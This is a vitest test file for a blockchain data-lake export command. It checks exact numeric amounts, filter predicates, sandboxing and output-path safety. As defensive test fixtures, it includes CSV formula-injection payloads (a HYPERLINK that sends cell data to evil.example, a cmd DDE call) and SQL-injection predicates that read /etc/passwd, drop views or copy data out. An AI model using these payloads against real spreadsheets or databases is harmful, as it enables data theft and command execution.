// `chainlake export`: every format keeps amounts exact; the predicate is only ever a filter; a bad
// path, table, column or predicate exits 2 and writes nothing.
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { beforeAll, describe, expect, it } from 'vitest';
import { UsageError } from '../../src/errors.js';
import { exportTable, filterSql, sandbox } from '../../src/warehouse/export.js';
import { filesOf, LAKE_TABLES, openWarehouse } from '../../src/warehouse/views.js';
import { query } from '../../src/warehouse/query.js';
import { cliHere, sharedDemoLake } from '../lake-fixture.js';

let lake: string;
let out: string;

beforeAll(async () => {
  // Every export reads the lake and writes outside it: the demo lake the suite builds once.
  lake = await sharedDemoLake();
  out = mkdtempSync(join(tmpdir(), 'cl-export-'));
});

async function duck(sql: string): Promise<Array<Record<string, unknown>>> {
  const db = await DuckDBInstance.create(':memory:');
  const conn = await db.connect();
  try {
    return (await conn.runAndReadAll(sql)).getRowObjectsJson() as Array<Record<string, unknown>>;
  } finally {
    conn.closeSync();
  }
}

async function lakeRows(sql: string): Promise<Array<Record<string, unknown>>> {
  const conn = await openWarehouse(lake);
  try {
    return (await query(conn, sql)).rows;
  } finally {
    conn.closeSync();
  }
}

/** Transfer key -> value_raw, from the lake. */
async function rawByKey(): Promise<Map<string, string | null>> {
  const rows = await lakeRows(`SELECT tx_hash, log_index, token_id, value_raw FROM erc_transfers`);
  return new Map(rows.map((r) => [`${r.tx_hash}|${r.log_index}|${r.token_id ?? ''}`, r.value_raw as string | null]));
}

describe('export formats', () => {
  it('parquet: the whole table, row for row as the lake\'s files hold it (DECIMAL(38,0) and the _raw digits)', async () => {
    const file = join(out, 'all.parquet');
    const r = await exportTable({ lake, table: 'erc_transfers', to: file });
    expect(r.format).toBe('parquet');
    const [{ n }] = await lakeRows(`SELECT count(*) AS n FROM erc_transfers`);
    expect(r.rows).toBe(Number(n));
    const schema = await duck(`SELECT name, logical_type FROM parquet_schema('${file}') WHERE name IN ('value', 'value_raw')`);
    expect(schema.find((c) => c.name === 'value')!.logical_type).toBe('DecimalType(scale=0, precision=38)');
    // Both ways EXCEPT ALL: the file holds exactly the rows of the lake's files, with their types.
    const files = filesOf(lake, LAKE_TABLES.find((d) => d.table === 'erc_transfers')!)!;
    const diff = (await duck(`SELECT (SELECT count(*) FROM (SELECT * FROM ${files} EXCEPT ALL SELECT * FROM read_parquet('${file}'))) AS a, (SELECT count(*) FROM (SELECT * FROM read_parquet('${file}') EXCEPT ALL SELECT * FROM ${files})) AS b`))[0];
    expect(diff).toEqual({ a: '0', b: '0' });
  });

  it('parquet: an amount asked for without its _raw digits gets them, after it (its DECIMAL is NULL over 38 digits)', async () => {
    const file = join(out, 'values.parquet');
    const r = await exportTable({ lake, table: 'erc_transfers', to: file, columns: ['tx_hash', 'value', 'log_index'] });
    expect(r.columns).toEqual(['tx_hash', 'value', 'value_raw', 'log_index']);
    const rows = await duck(`SELECT value, value_raw FROM read_parquet('${file}') WHERE value_raw IS NOT NULL`);
    const over38 = rows.filter((x) => (x.value_raw as string).replace(/^0+/, '').length > 38);
    expect(over38.length).toBeGreaterThan(0);
    for (const x of over38) expect(x.value).toBeNull();
    for (const x of rows.filter((y) => !over38.includes(y))) expect(x.value).toBe(BigInt(x.value_raw as string).toString());
  });

  it('csv: amounts as exact digits, over 38 digits too', async () => {
    const file = join(out, 'transfers.csv');
    const r = await exportTable({ lake, table: 'erc_transfers', to: file, columns: ['tx_hash', 'log_index', 'token_id', 'value', 'value_raw'] });
    const lines = readFileSync(file, 'utf8').trimEnd().split('\n');
    expect(lines[0]).toBe('tx_hash,log_index,token_id,value,value_raw');
    expect(lines.length - 1).toBe(r.rows);
    const raw = await rawByKey();
    let over38 = 0;
    for (const line of lines.slice(1)) {
      const [tx, log, id, value, valueRaw] = line.split(',');
      expect(valueRaw).toBe(raw.get(`${tx}|${log}|${id}`) ?? '');
      if (valueRaw!.replace(/^0+/, '').length > 38) over38++;
      expect(value).toBe(valueRaw ? BigInt(valueRaw).toString() : '');
    }
    expect(over38).toBeGreaterThan(0);
  });

  it('ndjson: big numbers as strings, so no JSON reader rounds them', async () => {
    const file = join(out, 'transfers.ndjson');
    await exportTable({ lake, table: 'erc_transfers', to: file, where: 'length(value_raw) > 20', columns: ['tx_hash', 'block_number', 'value', 'value_raw', 'token_metadata'] });
    const rows = readFileSync(file, 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) {
      expect(Object.keys(row)).toEqual(['tx_hash', 'block_number', 'value', 'value_raw', 'token_metadata']);
      expect(typeof row.block_number).toBe('string');
      expect(typeof row.value_raw).toBe('string');
      expect((row.value_raw as string).length).toBeGreaterThan(20);
      expect(row.value).toBe(BigInt(row.value_raw as string).toString());
    }
  });

  it('--where filters as the same predicate in SQL does; --columns keeps their order', async () => {
    const file = join(out, 'delegations.csv');
    const r = await exportTable({ lake, table: 'delegators', to: file, where: "delegation_status = 'active' AND amount_delegated > 2000000000000", columns: ['node_id', 'tx_hash', 'amount_delegated_raw'] });
    const [{ n }] = await lakeRows(`SELECT count(*) AS n FROM delegators WHERE delegation_status = 'active' AND amount_delegated > 2000000000000`);
    expect(r.rows).toBe(Number(n));
    expect(r.rows).toBeGreaterThan(0);
    expect(readFileSync(file, 'utf8').split('\n')[0]).toBe('node_id,tx_hash,amount_delegated_raw');
  });

  it('the format follows the file name unless --format says otherwise', async () => {
    expect((await exportTable({ lake, table: 'delegators', to: join(out, 'd.jsonl') })).format).toBe('ndjson');
    const f = join(out, 'd.data');
    expect((await exportTable({ lake, table: 'delegators', to: f, format: 'csv' })).format).toBe('csv');
    expect(readFileSync(f, 'utf8').startsWith('network,tx_hash,')).toBe(true);
  });

  it('the CLI prints what it wrote', async () => {
    const r = await cliHere(['export', 'historical_rewards', '--lake', lake, '--to', join(out, 'rewards.parquet'), '--columns', 'utxo_id,reward_amount,reward_amount_raw']);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^exported \d+ rows \(3 columns\) of historical_rewards to .*rewards\.parquet as parquet\n$/);
  });
});

describe('CSV cells a spreadsheet would run as formulas (OWASP CSV injection)', () => {
  let hostile: string;

  // Transfers of the lake whose token names and symbols came from the service as formulas, and a
  // number column with a negative value.
  beforeAll(async () => {
    hostile = mkdtempSync(join(tmpdir(), 'cl-export-formulas-'));
    mkdirSync(join(hostile, 'erc_transfers'));
    // A lake (a reader refuses a folder without states or run reports) of one hand-made file.
    mkdirSync(join(hostile, '_runs'));
    const from = `(SELECT * FROM read_parquet('${join(lake, 'erc_transfers', '**', '*.parquet')}') ORDER BY tx_hash, log_index LIMIT 1)`;
    const row = (name: string, symbol: string, logIndex: number) => `SELECT * REPLACE (${name} AS token_name, ${symbol} AS token_symbol, CAST(${logIndex} AS INTEGER) AS log_index) FROM ${from}`;
    await duck(
      `COPY (${row(`'=HYPERLINK("http://evil.example/?d="&A1,"claim")'`, `'@SUM(1+1)*cmd|'' /C calc''!A0'`, -5)} UNION ALL ${row(`chr(9) || '=1+1'`, `'-2+3'`, 7)} UNION ALL ${row(`chr(13) || '+1'`, `'USDC'`, -1)}) TO '${join(hostile, 'erc_transfers', 'x.parquet')}' (FORMAT parquet)`,
    );
  });

  const cells = (file: string) => duck(`SELECT token_name, token_symbol, log_index FROM read_csv('${file}', header = true, all_varchar = true) ORDER BY log_index::INTEGER`);

  it('text cells that begin with =, +, -, @, tab or CR get a leading quote; numbers stay numbers', async () => {
    const file = join(out, 'formulas.csv');
    const r = await exportTable({ lake: hostile, table: 'erc_transfers', to: file, columns: ['token_name', 'token_symbol', 'log_index', 'value'] });
    expect(r.rows).toBe(3);
    expect(await cells(file)).toEqual([
      { token_name: `'=HYPERLINK("http://evil.example/?d="&A1,"claim")`, token_symbol: `'@SUM(1+1)*cmd|' /C calc'!A0`, log_index: '-5' },
      { token_name: "'\r+1", token_symbol: 'USDC', log_index: '-1' },
      { token_name: "'\t=1+1", token_symbol: "'-2+3", log_index: '7' },
    ]);
    // Unquoted -5: a number to whatever reads the file.
    expect(readFileSync(file, 'utf8')).toMatch(/,-5,\d+\n/);
  });

  it('--csv-formulas writes them as they are; other formats never change a cell', async () => {
    const file = join(out, 'formulas-raw.csv');
    await exportTable({ lake: hostile, table: 'erc_transfers', to: file, columns: ['token_name', 'token_symbol', 'log_index'], csvFormulas: true });
    expect((await cells(file)).map((c) => c.token_name)).toEqual(['=HYPERLINK("http://evil.example/?d="&A1,"claim")', '\r+1', '\t=1+1']);
    const nd = join(out, 'formulas.ndjson');
    await exportTable({ lake: hostile, table: 'erc_transfers', to: nd, columns: ['token_name'] });
    expect(readFileSync(nd, 'utf8')).toContain('"=HYPERLINK(');
  });

  it('the CLI: quoted by default, raw with --csv-formulas, which only a CSV takes', async () => {
    const a = join(out, 'cli-formulas.csv');
    expect((await cliHere(['export', 'erc_transfers', '--lake', hostile, '--to', a, '--columns', 'token_name'])).code).toBe(0);
    expect(readFileSync(a, 'utf8')).toContain(`"'=HYPERLINK(`);
    const b = join(out, 'cli-formulas-raw.csv');
    expect((await cliHere(['export', 'erc_transfers', '--lake', hostile, '--to', b, '--columns', 'token_name', '--csv-formulas'])).code).toBe(0);
    expect(readFileSync(b, 'utf8')).toContain(`"=HYPERLINK(`);
    const c = join(out, 'cli-formulas.parquet');
    expect(await cliHere(['export', 'erc_transfers', '--lake', hostile, '--to', c, '--csv-formulas'])).toMatchObject({ code: 2, stderr: expect.stringContaining('--csv-formulas: only with CSV') });
    expect(existsSync(c)).toBe(false);
  });
});

describe('the predicate is a filter and nothing else', () => {
  const refused: Array<[string, RegExp]> = [
    ['1=1; DROP VIEW erc_transfers', /not a predicate DuckDB can read|more than one statement/],
    ['true; SELECT 1', /more than one statement/],
    ["value_raw IN (SELECT content FROM read_text('/etc/passwd'))", /a subquery is not allowed/],
    ["EXISTS (SELECT 1 FROM read_csv('/etc/hosts'))", /a subquery is not allowed/],
    ['block_number > (SELECT max(block_number) FROM erc_transfers)', /a subquery is not allowed/],
    ['true UNION ALL SELECT * FROM erc_transfers', /not a single filter/],
    ['true ORDER BY block_number', /ORDER BY, LIMIT or DISTINCT/],
    ['true LIMIT 1', /ORDER BY, LIMIT or DISTINCT/],
    ['true GROUP BY ALL', /GROUP BY, HAVING/],
    ["current_setting('threads') > 0", /the function current_setting\(\) is not allowed/],
    ["getvariable('x') IS NULL", /the function getvariable\(\) is not allowed/],
    ["true) TO '/tmp/evil.csv' (FORMAT csv) --", /not a predicate DuckDB can read/],
    ["true; COPY erc_transfers TO '/tmp/evil.csv'", /not a predicate DuckDB can read|more than one statement/],
    ["true; ATTACH '/tmp/evil.db'", /not a predicate DuckDB can read|more than one statement/],
    ['true; INSTALL httpfs', /not a predicate DuckDB can read|more than one statement/],
    ["true; SET enable_external_access = true", /not a predicate DuckDB can read|more than one statement/],
    ['', /is empty/],
  ];

  it.each(refused)('refuses %j', async (where, message) => {
    const dir = mkdtempSync(join(out, 'refused-'));
    const err = await exportTable({ lake, table: 'erc_transfers', to: join(dir, 'x.csv'), where }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(UsageError);
    expect((err as Error).message).toMatch(message);
    expect((err as Error).message).toContain('--where');
    expect(readdirSync(dir)).toEqual([]);
  });

  it('runs DuckDB\'s rendering of the parsed filter, not the text given', async () => {
    const conn = await openWarehouse(lake);
    try {
      expect(await filterSql(conn, 'erc_transfers', "token_type = 'ERC-20' -- a comment\n AND block_number >= 1")).toBe(`SELECT * FROM erc_transfers WHERE ((token_type = 'ERC-20') AND (block_number >= 1))`);
    } finally {
      conn.closeSync();
    }
  });

  it('a filter naming an unknown column or comparing a number with text exits 2 and writes nothing', async () => {
    const dir = mkdtempSync(join(out, 'bind-'));
    const a = await cliHere(['export', 'erc_transfers', '--lake', lake, '--to', join(dir, 'x.csv'), '--where', 'nope > 1']);
    expect(a).toMatchObject({ code: 2, stderr: expect.stringContaining('Referenced column "nope" not found') });
    const b = await cliHere(['export', 'erc_transfers', '--lake', lake, '--to', join(dir, 'x.csv'), '--where', "value > 'abc'"]);
    expect(b).toMatchObject({ code: 2, stderr: expect.stringMatching(/Could not convert string .abc./) });
    expect(readdirSync(dir)).toEqual([]);
  });

  it('behind the parser, the export connection reads only the lake and writes only its file', async () => {
    const conn = await openWarehouse(lake);
    const file = join(out, 'sandboxed.csv');
    try {
      await sandbox(conn, lake, file);
      await expect(conn.run(`SELECT * FROM read_text('/etc/hostname')`)).rejects.toThrow(/disabled by configuration/);
      await expect(conn.run(`COPY (SELECT 1) TO '${join(out, 'elsewhere.csv')}'`)).rejects.toThrow(/disabled by configuration/);
      await expect(conn.run('SET enable_external_access = true')).rejects.toThrow(/locked/);
      await conn.run(`COPY (SELECT count(*) FROM erc_transfers) TO '${file}' (FORMAT csv)`);
    } finally {
      conn.closeSync();
    }
    expect(Number(readFileSync(file, 'utf8').split('\n')[1])).toBeGreaterThan(0);
    expect(existsSync(join(out, 'elsewhere.csv'))).toBe(false);
  });
});

describe('bad input exits 2 and writes nothing', () => {
  it('checks the table, columns, format and output path', async () => {
    const dir = mkdtempSync(join(out, 'bad-'));
    const to = join(dir, 'x.csv');
    const cases: Array<[Parameters<typeof exportTable>[0], string]> = [
      [{ lake, table: 'nope', to }, '"nope" is not a table of the lake ('],
      [{ lake, table: 'erc_transfer', to }, '"erc_transfer" is not a table of the lake; did you mean erc_transfers?'],
      [{ lake, table: 'erc_transfers', to, columns: ['tx_hash', 'nope'] }, 'erc_transfers has no column "nope"'],
      [{ lake, table: 'erc_transfers', to, columns: ['tx_hash', 'tx_hash'] }, 'tx_hash is given twice'],
      [{ lake, table: 'erc_transfers', to: join(dir, 'x.txt') }, 'cannot tell the format from the name'],
      [{ lake, table: 'erc_transfers', to: dir }, 'is a folder'],
      [{ lake, table: 'erc_transfers', to: join(dir, 'no', 'x.csv') }, 'does not exist'],
      [{ lake, table: 'erc_transfers', to: join(lake, 'erc_transfers', 'x.parquet') }, 'is inside the lake'],
      [{ lake, table: 'erc_transfers', to: join(lake, 'x.csv') }, 'is inside the lake'],
      [{ lake: join(dir, 'nolake'), table: 'erc_transfers', to }, 'no such folder'],
    ];
    for (const [o, message] of cases) {
      const err = await exportTable(o).catch((e: unknown) => e);
      expect(err, message).toBeInstanceOf(UsageError);
      expect((err as Error).message).toContain(message);
    }
    expect(readdirSync(dir)).toEqual([]);
    expect(readdirSync(lake).filter((f) => f.endsWith('.csv'))).toEqual([]);
  });

  it('refuses a path that leads into the lake through a link', async () => {
    const dir = mkdtempSync(join(out, 'link-'));
    symlinkSync(join(lake, 'erc_transfers'), join(dir, 'into-lake'));
    const err = await exportTable({ lake, table: 'erc_transfers', to: join(dir, 'into-lake', 'x.parquet') }).catch((e: unknown) => e);
    expect((err as Error).message).toContain('is inside the lake');
  });

  it('replaces an existing file only with --force, and never writes through a link', async () => {
    const dir = mkdtempSync(join(out, 'force-'));
    const to = join(dir, 'x.csv');
    writeFileSync(to, 'keep me');
    const r = await cliHere(['export', 'delegators', '--lake', lake, '--to', to]);
    expect(r).toMatchObject({ code: 2, stderr: expect.stringContaining('exists; add --force to replace it') });
    expect(readFileSync(to, 'utf8')).toBe('keep me');
    expect((await cliHere(['export', 'delegators', '--lake', lake, '--to', to, '--force'])).code).toBe(0);
    expect(readFileSync(to, 'utf8').startsWith('network,tx_hash')).toBe(true);
    mkdirSync(join(dir, 'sub'));
    writeFileSync(join(dir, 'target'), 'untouched');
    symlinkSync(join(dir, 'target'), join(dir, 'sub', 'link.csv'));
    expect(await cliHere(['export', 'delegators', '--lake', lake, '--to', join(dir, 'sub', 'link.csv'), '--force'])).toMatchObject({ code: 2, stderr: expect.stringContaining('not a regular file') });
    expect(readFileSync(join(dir, 'target'), 'utf8')).toBe('untouched');
  });
});
